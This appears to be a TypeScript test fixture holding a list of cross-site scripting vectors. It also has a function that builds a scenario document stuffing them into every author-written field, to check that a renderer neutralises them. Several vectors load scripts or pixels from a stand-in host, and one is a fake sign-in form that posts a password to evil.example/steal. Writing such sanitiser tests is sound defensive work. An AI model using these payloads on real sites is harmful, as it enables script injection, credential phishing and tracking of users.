// Hostile input for tests/e2e/xss.spec.ts: each vector tries to run script (calling alert() or
// setting window.__xss), load something from elsewhere, or change the page around it. Every
// vector is a line or two of markdown, so it can stand as a paragraph, a client line or feedback.
// The spec builds a scenario with all of them in every field a scenario author controls.

export const XSS_FLAG = '__xss';

export const XSS_VECTORS: string[] = [
	// Script elements
	'<script>window.__xss=1</script>',
	'<SCRIPT>alert(1)</SCRIPT>',
	'<script src="https://evil.example/xss.js"></script>',
	'<script type="module">window.__xss=1</script>',
	'<scr<script>ipt>window.__xss=1</scr</script>ipt>',
	'<<script>window.__xss=1;//<</script>',
	'"><script>window.__xss=1</script>',
	'</p><script>window.__xss=1</script><p>',
	// Event handlers
	'<img src=x onerror="window.__xss=1">',
	'<IMG SRC=x OnErRoR=alert(1)>',
	'<img src=x onerror=window.__xss=1',
	'<body onload="window.__xss=1">',
	'<p onmouseover="window.__xss=1">hover me</p>',
	'<div onclick="window.__xss=1" tabindex="0">click me</div>',
	'<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
	'<input autofocus onfocus="window.__xss=1">',
	'<select autofocus onfocus="window.__xss=1"><option>x</option></select>',
	'<video><source onerror="window.__xss=1"></video>',
	'<audio src=x onerror="window.__xss=1"></audio>',
	'<marquee onstart="window.__xss=1">moving</marquee>',
	'<a href="https://example.org" onclick="window.__xss=1">a real link with a handler</a>',
	// javascript: and data: links
	'<a href="javascript:window.__xss=1">js link</a>',
	'<a href="JaVaScRiPt:alert(1)">mixed case</a>',
	'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">entities</a>',
	'<a href="&#x6A;avascript&#x3A;alert(1)">hex entities</a>',
	'<a href="java&#09;script:alert(1)">tab entity</a>',
	'<a href=" javascript:alert(1)">leading space</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
	'<a href="vbscript:msgbox(1)">vbscript</a>',
	'[markdown js link](javascript:window.__xss=1)',
	'[markdown upper](JAVASCRIPT:alert(1))',
	'[markdown data](data:text/html,<script>alert(1)</script>)',
	'[markdown spaced]( javascript:alert(1) )',
	'[markdown entity](&#106;avascript:alert(1))',
	'<javascript:alert(1)>',
	// A reference definition must open its paragraph.
	'[evil]: javascript:alert(1)\n[reference link][evil]',
	// SVG and MathML
	'<svg onload="window.__xss=1"><circle r="40"/></svg>',
	'<svg><script>window.__xss=1</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text y="20">svg link</text></a></svg>',
	'<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"/></svg>',
	'<math><mtext><a href="javascript:alert(1)">math link</a></mtext></math>',
	// Frames, objects, forms
	'<iframe src="javascript:window.__xss=1"></iframe>',
	'<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
	'<object data="data:text/html,<script>alert(1)</script>"></object>',
	'<embed src="javascript:alert(1)">',
	'<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Sign in again</button></form>',
	'<button formaction="javascript:alert(1)">Continue</button>',
	'<isindex action="javascript:alert(1)" type="image">',
	// Style overlays and page changes
	'<style>body{display:none}</style>',
	'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#c00;z-index:9999">overlay</div>',
	'<span style="background:url(javascript:alert(1))">styled</span>',
	'<link rel="stylesheet" href="https://evil.example/xss.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	'<base href="https://evil.example/">',
	// Tracking images
	'![tracker](https://evil.example/xss-pixel.gif)',
	'<img src="https://evil.example/xss-pixel.gif" width="1" height="1">',
	'![x](x "title" onerror="window.__xss=1")',
	'<picture><source srcset="https://evil.example/xss.png"><img src="x"></picture>',
	// Broken, nested and encoded markup
	'<!--<img src="--><img src=x onerror=window.__xss=1//">',
	'<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
	'<template><script>window.__xss=1</script></template>',
	'<textarea><script>window.__xss=1</script></textarea>',
	'<title><script>window.__xss=1</script></title>',
	'<a href="https://example.org"><img src=x onerror=window.__xss=1></a>',
	'&lt;script&gt;window.__xss=1&lt;/script&gt;',
	'<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
	'<object><param name="src" value="javascript:alert(1)"></object>',
	'`<script>window.__xss=1</script>` in code',
	'<h3 id="main" class="skip" style="color:red">heading with attributes</h3>'
];

/** Plain-text fields (title, names, choice text): script-looking text that must show as text. */
export const XSS_TEXT = '<img src=x onerror=alert(1)><script>window.__xss=1</script>';

/**
 * A scenario with the whole corpus in every field an author writes: intro, narration, client
 * lines, feedback and endings (markdown), and the text fields (title, summary, client, beat
 * titles, choice text, `better`). It must compile without errors, or nobody could play it.
 */
export function hostileScenario(): string {
	const yaml = (text: string) => `'${text.replace(/'/g, "''")}'`;
	const paragraphs = XSS_VECTORS.join('\n\n');
	const clientLines = XSS_VECTORS.map((v) => `**Sam:** ${v}`).join('\n\n');
	const feedback = (opening: string) =>
		[
			`  feedback: ${opening}`,
			...XSS_VECTORS.flatMap((v) => v.split('\n')).map((l) => `    ${l}`)
		].join('\n');
	return `---
title: ${yaml(`Hostile ${XSS_TEXT}`)}
summary: ${yaml(`Every field is hostile. ${XSS_TEXT}`)}
client:
  name: ${yaml(`Sam ${XSS_TEXT}`)}
  age: 30
  pronouns: ${yaml(XSS_TEXT)}
  background: ${yaml(`A background ${XSS_TEXT}`)}
difficulty: 1
minutes: 3
principles: [safe-space]
meters:
  trust: { start: 2, min: 0, max: 4 }
setting: ${yaml(`A room ${XSS_TEXT}`)}
session: ${yaml(`Session ${XSS_TEXT}`)}
content_note: ${yaml(`A note ${XSS_TEXT}`)}
---

${paragraphs}

## First ${XSS_TEXT} {#start}

${paragraphs}

${clientLines}

**<img src=x onerror=alert(1)>Speaker:** A line from a hostile speaker name.

- "${XSS_TEXT} first response" -> middle
  id: first
  scores: safe-space -1
  effects: trust -1
${feedback('Hostile feedback follows.')}
  better: "${XSS_TEXT} a better response"
- "A plain response." -> middle
  id: plain
  scores: safe-space +1
  effects: trust +1
  feedback: Fine.

## Middle ${XSS_TEXT} {#middle}

${paragraphs}

${clientLines}

- "${XSS_TEXT} second response" -> end
  id: second
  scores: safe-space +1
  effects: trust +1
${feedback('More hostile feedback.')}

## End ${XSS_TEXT} {#end .ending outcome=stalled}

${paragraphs}

### Debrief

${paragraphs}
`;
}
